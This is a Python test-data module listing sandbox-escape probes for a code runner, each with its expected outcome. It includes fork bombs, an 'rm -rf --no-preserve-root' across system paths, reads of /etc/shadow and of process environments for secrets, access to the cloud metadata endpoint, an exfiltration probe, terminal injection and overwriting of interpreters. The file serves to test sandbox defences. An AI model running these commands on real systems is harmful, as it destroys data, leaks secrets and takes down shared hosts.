"""Programs that have broken sandboxes, as data.

A program says BROKEN where it got through. `endings` are the ways it may end; everything else it printed must hold `says`.
"""

from dataclasses import dataclass

from codecoach.runner.port import RunStatus as S

MB = 1024 * 1024


@dataclass(frozen=True)
class Kind:
    name: str
    why: str
    source: str
    endings: tuple[S, ...] = (S.OK,)
    says: str = ""
    language: str = "python"
    timeout_s: float = 10.0
    memory_bytes: int = 256 * MB
    stdin: bytes = b""


KNOWN = """
    fork_bomb_py fork_bomb_bash thread_bomb zombies daemon_double_fork setsid_survivor ignore_signals stop_group kill_everything
    pid_reuse_exit_codes exit_137 mem_single mem_many_procs mem_shared_anon mem_memfd mem_sysv_shm mem_dev_shm disk_cwd disk_one_file
    disk_other_dirs inode_bomb sparse_file deep_tree unremovable rm_rf persist flood_stdout flood_stderr giant_line binary_output
    split_utf8 close_stdout_run_on stdin_block stdin_unread stdin_flood_deadlock sleep_forever cpu_spin cpu_spin_many alarm_priority
    env_dump proc_environ host_files compile_include fd_leak imds loopback_app internet unix_sockets odd_sockets privileges namespaces
    syscalls ptrace_others kernel_files tiocsti core_dump segv deep_recursion huge_args inotify_exhaust flock_shared out_symlinks
    out_swap_race out_names out_many out_big_image overwrite_tools fake_status py_startup_hooks
"""
"""Every kind that is known to have broken sandboxes. What one program alone cannot show has a test of its own; see `IN_TESTS`."""

IN_TESTS = {
    "persist": "test_nothing_of_one_run_is_there_in_the_next",
    "compile_include": "test_a_compiler_finds_nothing_of_this_machine_to_print",
    "loopback_app": "test_a_server_of_this_machine_is_out_of_reach",
    "unix_sockets": "test_a_server_of_this_machine_is_out_of_reach",
    "flock_shared": "test_locks_of_one_program_hold_no_other_up",
    "out_swap_race": "test_a_file_swapped_for_a_link_while_the_program_ends_is_not_followed",
    "out_big_image": "test_a_picture_that_unfolds_to_gigabytes_is_passed_on_as_its_bytes",
}


def attempts(setup: str, *tries: str) -> str:
    """A program that makes each try and expects every one to be refused."""
    lines = (
        f"try:\n    {attempt}\n    print('BROKEN', {attempt!r})\nexcept (OSError, ValueError): pass"
        for attempt in tries
    )
    return "\n".join([setup, *lines, "print('HELD')"])


SYSCALLS = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    ctypes.set_errno(0)
    if libc.syscall(number, *arguments) != -1: return
    raise OSError(ctypes.get_errno(), "refused")
"""

KINDS = (
    # --- processes
    Kind(
        "fork_bomb_py",
        "exponential growth",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        (S.PROCESS_LIMIT,),
    ),
    Kind(
        "fork_bomb_large",
        "each fork copies the tables of much memory, and who reads them waits",
        "import os\nkept = bytearray(90_000_000)\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        (S.PROCESS_LIMIT,),
    ),
    Kind(
        "fork_bomb_bash",
        "bash tries again and floods stderr",
        "bomb() { bomb | bomb & }; bomb; sleep 100",
        (S.PROCESS_LIMIT, S.OUTPUT_LIMIT),
        language="bash",
    ),
    Kind(
        "thread_bomb",
        "threads count too",
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
        (S.PROCESS_LIMIT, S.FAILED),
    ),
    Kind(
        "zombies",
        "children that nobody waits for",
        "import os\nwhile True:\n    if os.fork() == 0: os._exit(0)",
        (S.PROCESS_LIMIT, S.FAILED),
    ),
    Kind(
        "daemon_double_fork",
        "an orphan that holds the pipes",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)\nos.wait()\nprint('main ends')",
        says="main ends",
    ),
    Kind(
        "setsid_survivor",
        "another session misses a group's kill",
        "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '1000'])\nprint('main ends')",
        says="main ends",
    ),
    Kind(
        "ignore_signals",
        "TERM first waits for ever",
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: signal.pause()",
        (S.TIMEOUT,),
        timeout_s=1,
    ),
    Kind(
        "stop_group",
        "a stopped parent keeps no time",
        "import os, signal\nos.kill(0, signal.SIGSTOP)\nos.kill(-1, signal.SIGSTOP)\nwhile True: pass",
        (S.TIMEOUT,),
        timeout_s=1,
    ),
    Kind(
        "kill_everything",
        "kills all it can see",
        "import os, signal\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: print('alone')",
        (S.OK, S.SIGNAL),
    ),
    Kind(
        "pid_reuse_exit_codes",
        "no harm: many short lives, one after the other, are no limit reached",
        "import os\nfor _ in range(400):\n    if os.fork() == 0: os._exit(0)\n    os.wait()\nos._exit(124)",
        (S.FAILED,),
    ),
    Kind("exit_137", "looks like a kill", "import os; os._exit(137)", (S.FAILED,)),
    # --- memory
    Kind("mem_single", "one large process", "kept = []\nwhile True: kept.append(bytearray(3_000_000))", (S.MEMORY,)),
    Kind(
        "mem_many_procs",
        "each below a limit per process",
        "import os, time\nfor _ in range(24):\n    if os.fork() == 0:\n        x = bytearray(40_000_000); time.sleep(1000)\ntime.sleep(1000)",
        (S.MEMORY,),
    ),
    Kind(
        "mem_forked",
        "no harm: forks that share their parent's memory must not be counted again and again",
        "import os, time\nkept = bytearray(60_000_000)\nfor _ in range(8):\n    if os.fork() == 0: time.sleep(0.5); os._exit(0)\nfor _ in range(8): os.wait()\nprint('HELD')",
        says="HELD",
    ),
    Kind(
        "mem_shared_anon",
        "escapes RLIMIT_DATA and anonymous counts",
        "import mmap\nm = mmap.mmap(-1, 2_000_000_000)\nfor at in range(0, len(m), 4096): m[at] = 1",
        (S.MEMORY,),
    ),
    Kind(
        "mem_undumpable",
        "hides its memory from those who read it in detail",
        "import ctypes\nctypes.CDLL(None).prctl(4, 0)\nkept = []\nwhile True: kept.append(bytearray(3_000_000))",
        (S.MEMORY,),
    ),
    Kind("mem_memfd", "memory that no process maps", attempts("import os", "os.memfd_create('x')"), says="HELD"),
    Kind(
        "mem_sysv_shm",
        "memory that outlives processes",
        attempts(SYSCALLS, "call(29, 0, 1 << 28, 0o1600)"),
        says="HELD",
    ),
    Kind(
        "mem_dev_shm",
        "an unlimited tmpfs",
        "import os\nf = open('/dev/shm/x', 'wb')\ntry:\n    for _ in range(400): f.write(bytes(1_000_000))\n    print('BROKEN')\nexcept OSError: print('HELD')\nos._exit(0)",
        says="HELD",
    ),
    # --- disk
    Kind(
        "disk_cwd",
        "many files below a limit per file",
        "import os\ntry:\n    for i in range(40):\n        with open(str(i), 'wb') as f: f.write(bytes(25_000_000))\n    print('BROKEN')\nexcept OSError: print('HELD')",
        says="HELD",
    ),
    Kind(
        "disk_one_file",
        "one huge file",
        "dd if=/dev/zero of=x bs=1M count=500 2>/dev/null && echo BROKEN; echo HELD",
        says="HELD",
        language="bash",
    ),
    Kind(
        "disk_other_dirs",
        "a root that is writable and unlimited",
        "for d in / /dev /etc /usr /usr/bin /piston /piston/packages /proc /var /run /home /opt; do (echo x > $d/x) 2>/dev/null && echo BROKEN $d; mkdir $d/y 2>/dev/null && echo BROKEN $d; done; echo HELD",
        says="HELD",
        language="bash",
    ),
    Kind(
        "inode_bomb",
        "empty files take no bytes",
        "for i in range(300_000): open(f'/tmp/{i}', 'w').close()",
        (S.FILE_LIMIT,),
    ),
    Kind("sparse_file", "1 TB that takes no space", attempts("", "open('x', 'wb').truncate(1 << 40)"), says="HELD"),
    Kind(
        "deep_tree",
        "cleaning up by recursion",
        "import os\nfor _ in range(3000):\n    os.mkdir('d'); os.chdir('d')\nprint('made')",
        says="made",
    ),
    Kind(
        "unremovable",
        "folders without permissions",
        "import os\nos.mkdir('d'); open('d/x', 'w').close(); os.chmod('d', 0); os.mkfifo('pipe')\nprint('made')",
        says="made",
    ),
    Kind(
        "rm_rf",
        "deletes all it can",
        "rm -rf --no-preserve-root /box /tmp /piston /etc /usr/bin /proc/1 2>/dev/null; echo gone",
        says="gone",
        language="bash",
    ),
    # --- output
    Kind(
        "flood_stdout", "more than memory holds", "import os\nwhile True: os.write(1, b'x' * 65536)", (S.OUTPUT_LIMIT,)
    ),
    Kind(
        "flood_stderr",
        "the stream that is forgotten",
        "import sys\nwhile True: sys.stderr.write('x' * 9999)",
        (S.OUTPUT_LIMIT,),
    ),
    Kind(
        "flood_both",
        "children that write after their parent",
        "import os\nfor _ in range(4): os.fork()\nwhile True: os.write(1, b'y' * 99)",
        (S.OUTPUT_LIMIT,),
    ),
    Kind("giant_line", "breaks readers by line", "print('x' * 900_000, flush=True)", says="x" * 1000),
    Kind(
        "binary_output",
        "zero bytes, terminal commands, markup",
        "import os\nos.write(1, bytes(range(256)) + b'\\x1b]0;title\\x07<script>alert(1)</script>')",
        says="\x1b]0;title\x07<script>",
    ),
    Kind(
        "split_utf8",
        "a character cut where a piece ends",
        "import os, time\nfor byte in 'é中😀'.encode(): os.write(1, bytes([byte])); time.sleep(0.03)",
        says="é中😀",
    ),
    Kind(
        "close_stdout_run_on",
        "output ends long before the program",
        "import os, time\nos.write(1, b'last'); os.close(1); os.close(2); time.sleep(0.3); os._exit(5)",
        (S.FAILED,),
        says="last",
    ),
    Kind("stdin_block", "waits for the server's terminal", "try: input()\nexcept EOFError: print('HELD')", says="HELD"),
    Kind("stdin_unread", "input that nobody takes", "print('HELD')", says="HELD", stdin=b"x" * 3_000_000),
    Kind(
        "stdin_flood_deadlock",
        "prints much before it reads much",
        "import sys\nprint('y' * 700_000)\nprint(len(sys.stdin.buffer.read()))",
        says="\n3000000\n",
        stdin=b"x" * 3_000_000,
    ),
    # --- time
    Kind("sleep_forever", "processor limits do not see it", "import time\ntime.sleep(1e6)", (S.TIMEOUT,), timeout_s=1),
    Kind("cpu_spin", "a busy loop", "while True: pass", (S.TIMEOUT,), timeout_s=1),
    Kind(
        "cpu_spin_many",
        "children that spin",
        "import os\nfor _ in range(3): os.fork()\nwhile True: pass",
        (S.TIMEOUT,),
        timeout_s=1,
    ),
    Kind(
        "alarm_priority",
        "real time would starve the app",
        attempts("import os", "os.nice(-10)", "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))"),
        says="HELD",
    ),
    # --- secrets
    Kind(
        "env_dump",
        "inherited keys",
        "import os\nprint('BROKEN' if 'TEST_SECRET' in os.environ or any('AWS' in k for k in os.environ) else 'HELD')",
        says="HELD",
    ),
    Kind(
        "proc_environ",
        "the app's environment through /proc",
        "import glob\nfor f in glob.glob('/proc/*/environ'):\n    try:\n        if b'TEST_SECRET' in open(f, 'rb').read(): print('BROKEN', f)\n    except OSError: pass\nprint('HELD')",
        says="HELD",
    ),
    Kind(
        "host_files",
        "readable secrets of the host",
        "for f in /etc/shadow /root /home/* /etc/ssh /srv /var/log /etc/hostname /etc/machine-id /run/docker.sock /sys/class; do [ -e $f ] && [ -r $f ] && echo BROKEN $f; done; echo HELD",
        says="HELD",
        language="bash",
    ),
    Kind(
        "fd_leak",
        "inherited sockets and files",
        "import os\nopen_here = [n for n in os.listdir('/proc/self/fd') if int(n) > 2 and os.path.exists(f'/proc/self/fd/{n}')]\nprint('BROKEN' if open_here else 'HELD', open_here)",
        says="HELD",
    ),
    Kind(
        "command_lines",
        "the host's processes",
        "import os\nprint('HELD' if len([p for p in os.listdir('/proc') if p.isdigit()]) <= 3 else 'BROKEN')",
        says="HELD",
    ),
    Kind(
        "py_startup_hooks",
        "the app's own settings change the program",
        "import os, sys\nhooks = [name for name in os.environ if name in ('PYTHONSTARTUP', 'PYTHONWARNINGS', 'NODE_OPTIONS', 'BASH_ENV')]\nprint('BROKEN' if hooks or sys.warnoptions else 'HELD')",
        says="HELD",
    ),
    # --- network
    Kind(
        "imds",
        "the instance's role",
        attempts(
            "import socket",
            "socket.create_connection(('169.254.169.254', 80), 2)",
            "socket.create_connection(('fd00:ec2::254', 80), 2)",
        ),
        says="HELD",
    ),
    Kind(
        "internet",
        "exfiltration",
        attempts(
            "import socket",
            "socket.create_connection(('192.0.2.1', 443), 2)",
            "socket.getaddrinfo('example.com', 443)",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
        ),
        says="HELD",
    ),
    Kind(
        "odd_sockets",
        "families that leave the namespace",
        attempts(
            "import socket",
            "socket.socket(40, socket.SOCK_STREAM)",
            "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
            "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)",
            "socket.socket(38, socket.SOCK_SEQPACKET)",
            "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        ),
        says="HELD",
    ),
    # --- kernel
    Kind(
        "privileges",
        "setuid programs",
        attempts("import os, subprocess", "os.setuid(0)", "os.setgroups([0])", "os.chown('/tmp', 0, 0)")
        + "\nstatus = open('/proc/self/status').read()\nprint('BROKEN' if 'NoNewPrivs:\\t1' not in status or 'CapEff:\\t0000000000000000' not in status or 'CapBnd:\\t0000000000000000' not in status else '')",
        says="HELD",
    ),
    Kind(
        "namespaces",
        "a root of one's own",
        attempts(
            SYSCALLS,
            *[f"call(272, {flag:#x})" for flag in (0x10000000, 0x40000000, 0x20000, 0x20000000, 0x2000000)],
            "call(56, 0x10000011, 0, 0, 0, 0)",
            "call(435, 0, 0)",
        ),
        says="HELD",
    ),
    Kind(
        "syscalls",
        "the kernel's rarely used surface",
        attempts(
            SYSCALLS,
            *[
                f"call({n}, 0, 0, 0, 0, 0)"
                for n in (
                    101,
                    165,
                    166,
                    155,
                    161,
                    321,
                    298,
                    323,
                    250,
                    248,
                    249,
                    246,
                    175,
                    313,
                    167,
                    169,
                    163,
                    103,
                    304,
                    303,
                    300,
                    425,
                    426,
                    427,
                    447,
                    310,
                    311,
                    438,
                    428,
                    430,
                )
            ],
        ),
        says="HELD",
    ),
    Kind(
        "ptrace_others",
        "taking over the sandbox's init",
        attempts(SYSCALLS, "call(101, 16, 1, 0, 0)", "open('/proc/1/mem', 'rb').read(1)", "call(438, 0, 0, 0)"),
        says="HELD",
    ),
    Kind(
        "kernel_files",
        "break-outs of containers",
        attempts(
            "",
            "open('/proc/sys/kernel/core_pattern', 'w')",
            "open('/proc/sysrq-trigger', 'w')",
            "open('/proc/sys/vm/overcommit_memory', 'w')",
            "open('/dev/sda', 'rb')",
            "open('/dev/mem', 'rb')",
            "open('/sys/kernel/uevent_helper', 'w')",
            "open('/proc/1/oom_score_adj', 'wb', 0).write(b'-1000')",
        ),
        says="HELD",
    ),
    Kind(
        "tiocsti",
        "typing into the developer's shell",
        attempts(
            "import fcntl, os",
            "fcntl.ioctl(0, 0x5412, b'x')",
            "fcntl.ioctl(0, 0x541c, b'x')",
            "os.open('/dev/tty', os.O_RDWR)",
        ),
        says="HELD",
    ),
    Kind("core_dump", "cores fill disks and hold secrets", "import os; os.abort()", (S.SIGNAL,)),
    Kind("segv", "a crash is the program's", "import ctypes; ctypes.string_at(0)", (S.SIGNAL,)),
    Kind(
        "deep_recursion",
        "eats heap or stack",
        "import sys\nsys.setrecursionlimit(1 << 30)\ndef f(): f()\nf()",
        (S.MEMORY, S.SIGNAL, S.FAILED),
    ),
    Kind(
        "huge_args",
        "the limits of exec",
        attempts("import os", "os.execv('/bin/true', ['x' * 9_000_000])"),
        says="HELD",
    ),
    Kind(
        "inotify_exhaust",
        "the app's own watches share the count",
        attempts(SYSCALLS, "call(253)", "call(294, 0)"),
        says="HELD",
    ),
    # --- files and tampering
    Kind(
        "out_symlinks",
        "a collector that follows links",
        "ln -s /etc/passwd a; ln -s / b; ln -s ../../../etc c; mkfifo d; mkdir e; ln -s /etc/passwd e/f; echo x > g; ln g h; ln -s a i; echo made",
        says="made",
        language="bash",
    ),
    Kind(
        "out_many",
        "more results than anybody looks at",
        "for i in range(3000): open(f'{i}.txt', 'w').write('x')\nprint('made')",
        says="made",
    ),
    Kind(
        "out_names",
        "names that reach pages and headers",
        "import os\nfor n in ('a\\nb', '\\x1b[31m', 'x\\u202egnp', '\\\\up', b'\\xff'): open(n, 'w').close()\nopen('fine <b>.txt', 'w').write('1')\nprint('made')",
        says="made",
    ),
    Kind(
        "overwrite_tools",
        "poisons the next user's interpreter",
        "for f in $(command -v python3) $(command -v bash) /piston/packages/*/*/run /etc/passwd /usr/lib/os-release; do (echo x >> $f) 2>/dev/null && echo BROKEN $f; rm -f $f 2>/dev/null && echo BROKEN $f; done; echo HELD",
        says="HELD",
        language="bash",
    ),
    Kind(
        "fake_status",
        "forges the runner's own channel",
        "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'{\"exit-code\": 0}\\n')\n    except OSError: pass\nprint('{\"exit-code\": 0}')\nos._exit(9)",
        (S.FAILED,),
    ),
)
